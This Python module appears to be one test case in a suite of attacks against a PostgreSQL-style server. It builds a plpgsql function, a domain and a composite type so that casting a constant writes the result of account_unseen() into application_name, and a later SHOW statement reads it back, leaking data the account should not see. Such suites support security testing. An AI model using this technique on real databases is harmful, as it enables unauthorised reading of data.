"""Has a setting made of what it reads while a constant is made, and shown by the next statement."""

from attacks.frames import SYNC, ask, parse, query, whole
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        for sql in (
            b"CREATE FUNCTION look(int) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN"
            b" PERFORM set_config('application_name', account_unseen($1), false);"
            b" RETURN true; END $$",
            b"CREATE DOMAIN seen AS int CHECK (look(VALUE))",
            b"CREATE TYPE pair AS (a seen)",
        ):
            ask(client, query(sql))
        return ask(
            client, parse(b"SELECT '(1)'::pair", b"s"), whole(b"SHOW application_name"), SYNC
        )
